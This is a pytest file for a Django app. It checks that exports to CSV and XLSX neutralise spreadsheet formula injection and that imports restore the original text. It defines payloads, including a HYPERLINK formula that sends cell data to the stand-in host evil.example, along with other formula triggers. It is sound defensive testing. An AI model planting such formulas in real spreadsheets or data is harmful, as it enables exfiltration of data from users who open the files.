"""Formula injection: text from users never reaches a spreadsheet as a formula, and imports read it back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from orgs.models import Organisation
from socialstats.models import Snapshot, SocialPage
from socialstats.registry.portable import export_all, import_all
from unionportal.lib.cells import csv_cell, csv_cell_read, is_formula_like, xlsx_row

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
NUMBERS = ["-12", "+5", "-1,5", "-3 %", "-1 234", "1e5"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text_and_read_back_unchanged(payload):
    written = csv_cell(payload)
    assert written == "'" + payload
    assert csv_cell_read(written) == payload


@pytest.mark.parametrize("number", [*NUMBERS, -5, 3.5, 0])
def test_real_numbers_are_left_alone(number):
    assert not is_formula_like(number)
    assert csv_cell(number) == number


def test_plain_text_with_an_apostrophe_reads_back_unchanged():
    assert csv_cell("'quoted") == "'quoted"
    assert csv_cell_read("'quoted") == "'quoted"


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [False, True])
def test_an_xlsx_cell_that_starts_like_a_formula_is_a_string_shown_as_typed(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet() if write_only else workbook.active
    sheet.append(xlsx_row(sheet, [*PAYLOADS, -5, "-12"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = _xlsx_cells(buffer.getvalue())
    assert [cell.value for cell in cells] == [*PAYLOADS, -5, "-12"]
    assert {cell.data_type for cell in cells[: len(PAYLOADS)]} == {"s"}
    assert all(cell.quotePrefix for cell in cells[: len(PAYLOADS)])


def _assert_no_formula(content: bytes) -> None:
    cells = _xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert EVIL in [cell.value for cell in cells]


def _csv_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


@pytest.fixture
def evil_page(tree):
    page = SocialPage.objects.create(
        organisation=tree.vao, network="vk", url="https://vk.com/evil", handle="evil", title=EVIL
    )
    Snapshot.objects.create(page=page, date=dt.date(2024, 1, 31), subscribers=10, source="api")
    Snapshot.objects.create(page=page, date=dt.date(2024, 2, 29), subscribers=5, source="api")
    return page


@pytest.mark.django_db
def test_the_growth_exports_write_a_hostile_page_title_as_text(client, cast, evil_page):
    client.force_login(cast.territorial_admin)
    period = {"a": "31.01.2024", "b": "29.02.2024"}
    _assert_no_formula(client.get("/stats/growth/", {**period, "format": "xlsx"}).content)
    rows = _csv_rows(client.get("/stats/growth/", {**period, "format": "csv"}).content, ";")
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert "-5" in cells  # the negative change is a number, written as it is


@pytest.mark.django_db
def test_the_registry_exports_write_a_hostile_organisation_name_as_text(client, cast, evil_page, tree):
    Organisation.objects.filter(pk=tree.vao.pk).update(name=EVIL, short_name="")
    client.force_login(cast.territorial_admin)
    _assert_no_formula(client.get(reverse("socialstats:page_list"), {"export": "xlsx"}).content)
    cells = [
        cell
        for row in _csv_rows(client.get(reverse("socialstats:page_list"), {"export": "csv"}).content)
        for cell in row
    ]
    assert "'" + EVIL in cells and EVIL not in cells


@pytest.mark.django_db
def test_the_news_completeness_export_writes_a_hostile_organisation_name_as_text(client, cast, tree):
    Organisation.objects.filter(pk=tree.vao_p1.pk).update(name=EVIL, short_name="")
    client.force_login(cast.info_officer)
    _assert_no_formula(client.get(reverse("news:completeness_xlsx")).content)


@pytest.mark.django_db
def test_the_contest_ranking_export_writes_a_hostile_title_as_text(client, cast, tree):
    from contests import services

    contest = services.contest_create(
        title=EVIL,
        scope=tree.union,
        level="territorial",
        period_start=dt.date(2024, 1, 1),
        period_end=dt.date(2024, 2, 1),
    )
    client.force_login(cast.info_officer)
    _assert_no_formula(client.get(reverse("contests:ranking_xlsx", args=[contest.pk])).content)


@pytest.mark.django_db
def test_the_snapshot_export_command_writes_a_hostile_name_as_text(evil_page, tree, tmp_path: Path):
    Organisation.objects.filter(pk=tree.vao.pk).update(name=EVIL, short_name="")
    output = tmp_path / "snapshots.csv"
    call_command("export_snapshots", "--output", str(output))
    cells = [cell for row in _csv_rows(output.read_bytes()) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)


@pytest.mark.django_db
def test_the_portable_export_neutralises_hostile_names_and_imports_them_back_unchanged(tree, tmp_path: Path):
    Organisation.objects.filter(pk=tree.vao.pk).update(name="@ВАО", short_name="")
    Organisation.objects.filter(pk=tree.zao_p1.pk).update(name="-ППО Школа 3", short_name="")
    SocialPage.objects.create(
        organisation=tree.vao_p1, network="vk", url="https://vk.com/evil", handle="evil", title=EVIL
    )
    export_all(directory=tmp_path)
    raw = "\n".join(path.read_text(encoding="utf-8") for path in tmp_path.iterdir())
    assert "'@ВАО" in raw and "'-ППО Школа 3" in raw
    SocialPage.objects.all().delete()
    Organisation.objects.all().delete()

    import_all(directory=tmp_path)

    names = set(Organisation.objects.values_list("name", flat=True))
    assert {"@ВАО", "-ППО Школа 3"} <= names
    assert SocialPage.objects.get().title == EVIL
